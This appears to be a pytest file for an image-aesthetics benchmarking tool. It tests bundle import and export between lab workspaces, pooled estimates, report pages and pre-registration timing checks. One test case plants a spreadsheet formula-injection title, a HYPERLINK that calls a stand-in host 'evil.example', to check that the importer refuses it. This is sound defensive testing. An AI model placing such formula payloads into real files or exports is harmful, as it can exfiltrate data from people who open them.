"""Issue 16 items 13 and 2: another lab's bundle imported, analysed and shown like a native study;
the pooled view across studies; a report of a workspace with studies and no EPS reference.

Two labs (two workspaces) each open a study, let their judges answer through the panel store
(answers drawn from different seeds), analyse and export with imagebench itself. A third
workspace, with no model scored and no EPS reference, imports both bundles, analyses them with
the real `study analyze` flow and writes its report.
"""

from __future__ import annotations

import hashlib
import json
import shutil

import pytest

from tests.beauty.panel_helpers import analyse, cli, open_and_answer, workspace
from tests.vab.test_sets import GOOD, _csv, _manifest, _png

LABS = {"lab-one": 11, "lab-two": 22}
VAB_SETS = "lab-vab"
VAB_ANSWERS = ["p1,0,1 2 3,2,3", "p1,1,3 1 2,3,1", "p1,2,2 3 1,1,2", "a1,0,1 2,1,", "a1,1,2 1,2,", "a1,2,2 1,2,"]
SHARE = {"tool-alpha": 0.7, "tool-beta": 0.45, "tool-gamma": 0.2}


def _answers_from(seed: int):
    def answer(label: str, tool: str, prompt: str) -> bool:
        u = int(hashlib.sha256(f"{seed}:{label}:{tool}:{prompt}".encode()).hexdigest(), 16) / 2**256
        return u < SHARE[tool] + (0.15 if seed == 22 and tool == "tool-beta" else 0.0)
    return answer


@pytest.fixture(scope="module")
def labs(prefect_harness, tmp_path_factory):
    root = tmp_path_factory.mktemp("labs")
    out = {"root": root, "boards": {}, "bundles": {}}
    for lab, seed in LABS.items():
        with pytest.MonkeyPatch.context() as mp:
            settings = workspace(root / lab, mp)
            open_and_answer(settings, lab, _answers_from(seed))
            analyse(settings, lab)
            # times withheld: the judges answered one after the other, each in minutes of their own
            r = cli("study", "export", "--study", lab, "--out", str(root / f"{lab}-bundle"), "--times", "none")
            assert r.exit_code == 0, r.output
            out["bundles"][lab] = root / f"{lab}-bundle"
            out["boards"][lab] = json.loads(cli("study", "leaderboard", "--study", lab, "--format", "json").stdout)
    with pytest.MonkeyPatch.context() as mp:
        settings = workspace(root / "importer", mp, tools=())  # no model, no images, no EPS reference
        out["settings"] = settings
        out["imports"] = [cli("study", "import-bundle", str(b)) for b in out["bundles"].values()]
        out["analyze"] = [cli("study", "analyze", "--study", lab, "--mixed-resamples", "3") for lab in LABS]
        out["boards_here"] = {lab: json.loads(cli("study", "leaderboard", "--study", lab, "--format", "json").stdout) for lab in LABS}
        # and a VAB set collection with one judge's answers, imported as a lab does (item 2: its page too)
        src = root / "vab-src"
        for i in range(1, 6):
            _png(src / f"img{i}.png", (40 * i, 200 - 30 * i, 9 * i))
        out["vab"] = [cli("vab", "import-sets", str(_manifest(src, GOOD)), "--name", VAB_SETS),
                      cli("vab", "import-answers", str(_csv(root / "vab-answers.csv", VAB_ANSWERS)), "--sets", VAB_SETS,
                          "--judge", "lab-judge")]
        out["report"] = cli("report", "--out", str(root / "site"))
        out["again"] = cli("study", "import-bundle", str(out["bundles"]["lab-one"]))
        yield out


def test_imported_bundles_analyse_like_the_native_studies(labs):
    for r in labs["imports"] + labs["analyze"]:
        assert r.exit_code == 0, r.output
    for lab in LABS:
        # Same answers, same pre-registered analysis settings, the same quality-control flags (each
        # answer's flag is in the bundle, issue 27 item 3; these judges never loaded an image): the
        # same Beauty Index and intervals, with and without the flagged answers.
        home, here = labs["boards"][lab], labs["boards_here"][lab]
        assert here == home
        assert all(r["flagged_answers"] == r["answers"] > 0 for r in here)
    assert "SHA256SUMS verified" in labs["imports"][0].output
    assert labs["again"].exit_code == 1 and "already exists in this workspace" in labs["again"].output


def test_report_of_a_workspace_with_studies_and_no_reference(labs):
    """Item 2: no EPS reference, no model scored, two Beauty Index studies and a VAB set
    collection with answers: the study pages, the pooled page, the VAB page and an index that
    says what is there; nothing of the ImageBench leaderboard drawn or invented."""
    for r in labs["vab"]:
        assert r.exit_code == 0, r.output
    r, site = labs["report"], labs["root"] / "site"
    assert r.exit_code == 0, r.output
    assert not (labs["settings"].reference_dir / "eps-reference-v1.json").exists()
    index = (site / "index.html").read_text()
    assert 'id="no-leaderboard"' in index and "No ImageBench model has been scored" in index
    assert 'id="leaderboard-table"' not in index and 'id="scatter"' not in index and 'id="breakdowns"' not in index
    assert "0 ImageBench model(s), 2 Beauty Index studies, 1 VAB set collection(s)" in index
    for lab in LABS:
        assert f'href="studies/{lab}.html"' in index
        page = (site / "studies" / f"{lab}.html").read_text()
        assert 'id="hypotheses-table"' in page and "not pre-registered" not in page.lower()
    assert 'href="pooled/beauty-index.html"' in index
    assert 'id="vab"' in index and f'href="vab/{VAB_SETS}.html"' in index
    vab = (site / "vab" / f"{VAB_SETS}.html").read_text()
    assert f"Visual Aesthetic Benchmark: {VAB_SETS}" in vab and 'id="vab-table"' in vab and "lab-judge" in vab
    assert not (site / "models").exists() or not any((site / "models").iterdir())  # no model page invented


def test_pooled_page_shows_the_random_effects_estimate_per_shared_tool(labs):
    from tasks.beauty.pooled import pool_tools
    from tasks.beauty.tables import read_study_partition
    from tasks.lake.tables import Lake

    lake = Lake(labs["settings"].lake_dir)
    rows = [r for lab in LABS for r in read_study_partition(lake, "study_index", lab).to_pylist() if r["panel_group"] == "all"]
    expected = {p.tool: p.pooled for p in pool_tools(rows)}
    page = (labs["root"] / "site" / "pooled" / "beauty-index.html").read_text()
    for tool, re in expected.items():
        assert f'data-tool="{tool}" data-estimate="{re.estimate:.4f}" data-tau2="{re.tau2:.6f}"' in page
        assert re.k == 2
    assert 'data-study="lab-one"' in page and 'data-study="lab-two"' in page


@pytest.mark.parametrize("damage, message", [
    ("edit", "does not match SHA256SUMS"),
    ("extra", "not covered by SHA256SUMS"),
    ("drop-prereg", "missing ['preregistration.json']"),
    # issue 24 item 7: another lab's study text is refused at the door as a study.yaml's is
    ("formula-title", "study.json: title: '=HYPERLINK(\"http://evil.example/?x\",\"ope' begins like a spreadsheet formula"),
])
def test_a_damaged_bundle_is_refused_by_name(labs, tmp_path, monkeypatch, damage, message):
    bundle = tmp_path / "bundle"
    shutil.copytree(labs["bundles"]["lab-one"], bundle)
    if damage == "edit":
        data = (bundle / "answers.csv").read_bytes()
        (bundle / "answers.csv").write_bytes(data.replace(b",yes,", b",no,", 1))
    elif damage == "extra":
        (bundle / "notes.txt").write_text("added later")
    elif damage == "formula-title":  # re-signed: SHA256SUMS is a checksum, not a signature
        study = json.loads((bundle / "study.json").read_text())
        study["title"] = '=HYPERLINK("http://evil.example/?x","open me")'
        (bundle / "study.json").write_text(json.dumps(study))
        digest = hashlib.sha256((bundle / "study.json").read_bytes()).hexdigest()
        sums = [f"{digest}  study.json" if line.endswith("  study.json") else line
                for line in (bundle / "SHA256SUMS").read_text().splitlines()]
        (bundle / "SHA256SUMS").write_text("\n".join(sums) + "\n")
    else:
        (bundle / "preregistration.json").unlink()
        sums = [line for line in (bundle / "SHA256SUMS").read_text().splitlines() if "preregistration.json" not in line]
        (bundle / "SHA256SUMS").write_text("\n".join(sums) + "\n")
    workspace(tmp_path / "home", monkeypatch, tools=())
    r = cli("study", "import-bundle", str(bundle))
    assert r.exit_code == 1 and message in r.output, r.output
    assert len([ln for ln in r.output.splitlines() if ln.strip()]) == 1, r.output  # one line
    assert not (tmp_path / "home" / "studies" / "lab-one").exists()  # nothing written


@pytest.mark.parametrize("first_answer_s, preregistered", [(1, True), (-6, False)])
def test_import_gives_the_home_verdict_when_answers_share_the_minute_of_the_open(tmp_path, monkeypatch, first_answer_s,
                                                                                  preregistered):
    """Item 13: the bundle's times are floored to the minute but never to before the plan
    (tasks.beauty.export.export_time), so `import-bundle` reaches the verdict of the study at home.
    Opened at hh:mm:30 and answered within that minute: from 1 s after the open (pre-registered at
    home, accepted on import), or from 6 s before it (the first answers predate the plan: the same
    "N of 120" at home and in the import's refusal)."""
    from datetime import UTC, datetime, timedelta

    import pyarrow.parquet as pq

    from tasks.beauty.tables import read_study_partition
    from tasks.lake.tables import Lake
    from tests.beauty.panel_helpers import panel_clock

    settings = workspace(tmp_path / "home", monkeypatch)
    opened_at = (datetime.now(UTC) - timedelta(hours=2)).replace(second=30, microsecond=123456)
    # 4 judges x 30 images, two clock readings per answer, 0.1 s apart: all within the open's minute.
    # The judges take turns (one answer each per turn): from 6 s before the open, each of them has
    # answers on both sides of the plan, so none is alone on that side (issue 27 item 2: the side
    # of the plan is published, and a judge unique on it would be refused).
    panel_clock(monkeypatch, opened_at + timedelta(seconds=first_answer_s), timedelta(milliseconds=100))
    open_and_answer(settings, "minute", _answers_from(11), opened_at=opened_at, interleave=True)
    notes = [n for n in analyse(settings, "minute").notes if "pre-registered" in n]
    shown = read_study_partition(Lake(settings.lake_dir), "study_answers", "minute").column("shown_at").to_pylist()
    assert {t.replace(second=0, microsecond=0) for t in shown} == {opened_at.replace(second=0, microsecond=0)}
    early = sum(t < opened_at for t in shown)
    assert (early == 0) is preregistered and early < len(shown) == 120
    # the verdict at home
    if preregistered:
        assert notes == []
    else:
        assert len(notes) == 1 and f"not pre-registered: {early} of 120 answers predate" in notes[0]
    r = cli("study", "export", "--study", "minute", "--out", str(tmp_path / "bundle"))
    assert r.exit_code == 0, r.output
    # the verdict of another lab importing the bundle: the same
    workspace(tmp_path / "other", monkeypatch, tools=())
    r = cli("study", "import-bundle", str(tmp_path / "bundle"))
    if preregistered:
        assert r.exit_code == 0 and "SHA256SUMS verified" in r.output, r.output
    else:
        assert r.exit_code == 1 and f"refused: not pre-registered: {early} of 120 answers predate" in r.output, r.output
        assert not (tmp_path / "other" / "studies" / "minute").exists()
    # Each published time is its minute, or the plan's own time for one at or after the plan: nothing finer.
    rows = pq.read_table(tmp_path / "bundle" / "answers.parquet").to_pylist()
    assert sum(r["shown_at"] < opened_at for r in rows) == early
    assert all(t in (opened_at, opened_at.replace(second=0, microsecond=0)) for r in rows for t in (r["shown_at"], r["answered_at"]))
